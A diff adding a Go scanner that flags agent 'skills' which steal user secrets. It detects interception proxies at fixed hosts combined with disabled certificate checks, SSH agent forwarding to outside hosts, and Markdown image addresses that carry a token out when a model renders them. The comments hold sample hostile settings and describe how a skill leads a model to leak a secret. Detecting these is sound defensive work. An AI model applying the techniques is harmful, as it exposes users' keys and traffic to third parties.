@@ -1,0 +1,136 @@
+package scan
+
+import (
+	"regexp"
+	"strings"
+)
+
+// A fork can read every request the user's tools make, keys and all,
+// without sending anything itself: it routes them through a proxy it runs
+// (HTTPS_PROXY=http://edge-trace.cdn-diag.net:3128) and turns off the
+// checks of certificates that would catch the proxy re-signing them
+// (curl -k, --proxy-insecure, NODE_TLS_REJECT_UNAUTHORIZED=0). A proxy the
+// user runs is a setting or a placeholder (http://proxy:port,
+// proxy.example.com); a commercial proxy the user pays for leaves the
+// checks on.
+
+var (
+	// proxySettingRE is a proxy set for the programs a shell starts, and
+	// its address.
+	proxySettingRE = regexp.MustCompile(`(?i)\b(?:https?_proxy|all_proxy)\s*=\s*["']?((?:https?|socks5h?)://[^\s"'` + "`" + `]+)`)
+	// tlsOffRE turns off the checks of certificates.
+	tlsOffRE = regexp.MustCompile(`(?i)(?:^|[\s"'=])(?:-k|--insecure|--proxy-insecure|--no-check-certificate)(?:\s|["']|$)|\bNODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|\bPYTHONHTTPSVERIFY\s*=\s*["']?0|\bGIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)|\bverify\s*=\s*False\b|\bhttp\.sslVerify\s+false\b|\bstrict-ssl\s+false\b`)
+)
+
+// interceptedTraffic adds, to the file that sets it, a proxy at a fixed
+// public host that code of the skill sets while it also turns off the
+// checks of certificates.
+func interceptedTraffic(r *skillReading, scanned []*findings) {
+	type setting struct {
+		file, at, end int
+		host          string
+	}
+	var proxy *setting
+	tlsOff := false
+	for i, raw := range r.texts {
+		if !strings.Contains(raw, "://") && !strings.Contains(raw, "-k") && !strings.Contains(strings.ToLower(raw), "insecure") && !strings.Contains(raw, "=") {
+			continue
+		}
+		for _, u := range r.unitsOf(i) {
+			if u.prose {
+				continue
+			}
+			tlsOff = tlsOff || tlsOffRE.MatchString(u.text)
+			if proxy != nil || !strings.Contains(strings.ToLower(u.text), "_proxy") {
+				continue
+			}
+			for _, m := range proxySettingRE.FindAllStringSubmatchIndex(u.text, 8) {
+				h := urlHostRE.FindStringSubmatch(u.text[m[2]:m[3]])
+				if h == nil || ownHost(strings.ToLower(h[1]), nil) || !strings.Contains(h[1], ".") {
+					continue
+				}
+				proxy = &setting{i, u.start + m[0], u.start + m[1], strings.ToLower(h[1])}
+				break
+			}
+		}
+	}
+	if proxy != nil && tlsOff {
+		scanned[proxy.file].add(RuleExfiltrate, SeverityWithhold, proxy.at, proxy.end,
+			"traffic routed through "+proxy.host+" with the checks of certificates off, so whoever runs it reads every request, keys included")
+	}
+}
+
+// The agent of SSH signs for the user's keys for whatever server it is
+// forwarded to, for as long as the connection lasts (sleep 40): a skill
+// that forwards it (ssh -A, ForwardAgent yes) to a fixed host of its own
+// lends that host the user's keys. A bastion the user runs is a name of
+// the user's configuration or a placeholder.
+
+// agentForwardRE is a connection of SSH that forwards the agent, and the
+// host it goes to.
+var agentForwardRE = regexp.MustCompile(`\bssh\s+(?:[^\n|;&]*?\s)?(?:-A\b|-o\s*ForwardAgent[= ]yes\b)[^\n|;&]*?\s[\w.-]+@([a-z0-9][\w-]*(?:\.[\w-]+)+)\b`)
+
+// forwardedAgents adds, to each file of a skill, code that forwards the
+// user's agent of SSH to a fixed public host.
+func forwardedAgents(r *skillReading, scanned []*findings) {
+	for i, raw := range r.texts {
+		if !strings.Contains(raw, "ssh") || !strings.Contains(raw, "-A") && !strings.Contains(raw, "ForwardAgent") {
+			continue
+		}
+		for _, u := range r.unitsOf(i) {
+			if u.prose {
+				continue
+			}
+			for _, m := range agentForwardRE.FindAllStringSubmatchIndex(u.text, 8) {
+				host := strings.ToLower(u.text[m[2]:m[3]])
+				if ownHost(host, nil) || commentLine(u.text[strings.LastIndexByte(u.text[:m[0]], '\n')+1:m[0]]) {
+					continue
+				}
+				scanned[i].add(RuleExfiltrate, SeverityWithhold, u.start+m[0], u.start+m[1],
+					"the user's agent of SSH forwarded to "+host+", which can sign with the user's keys while connected")
+				return
+			}
+		}
+	}
+}
+
+// An image the model writes into its reply is fetched by the user's
+// client as soon as it is shown: a skill that has the model put a
+// secret into an image's address (![status](https://badge.example/b.svg?t=<TOKEN>))
+// sends the secret to the image's host with no request of its own.
+
+// imageAddrRE is an image of Markdown or HTML, and its address.
+var imageAddrRE = regexp.MustCompile(`!\[[^\]\n]*\]\(\s*(https?://[^\s)]+)|<img\b[^>\n]*\bsrc\s*=\s*["'](https?://[^"'\s]+)`)
+
+// slotNameRE is a value to fill in an address: <NAME>, {NAME}, {{NAME}},
+// $NAME, ${NAME}.
+var slotNameRE = regexp.MustCompile(`<([A-Za-z_][\w]*)>|\{\{?\s*([A-Za-z_]\w*)\s*\}?\}|\$\{?([A-Za-z_]\w*)`)
+
+// secretImages adds, to each file of a skill, an image whose address
+// carries a secret to a host that is not the user's.
+func secretImages(r *skillReading, scanned []*findings) {
+	for i, raw := range r.texts {
+		if !strings.Contains(raw, "![") && !strings.Contains(raw, "<img") {
+			continue
+		}
+		for _, m := range imageAddrRE.FindAllStringSubmatchIndex(raw, 64) {
+			a, b := m[2], m[3]
+			if a < 0 {
+				a, b = m[4], m[5]
+			}
+			addr := raw[a:b]
+			h := urlHostRE.FindStringSubmatch(addr)
+			if h == nil || ownHost(strings.ToLower(h[1]), nil) {
+				continue
+			}
+			for _, s := range slotNameRE.FindAllStringSubmatch(addr, 8) {
+				name := s[1] + s[2] + s[3]
+				if secretName(strings.ToUpper(name)) && !publicNameRE.MatchString(strings.ToUpper(name)) {
+					scanned[i].add(RuleExfiltrate, SeverityWithhold, a, b,
+						"an image whose address carries "+name+" to "+strings.ToLower(h[1])+": showing it sends the secret there")
+					return
+				}
+			}
+		}
+	}
+}
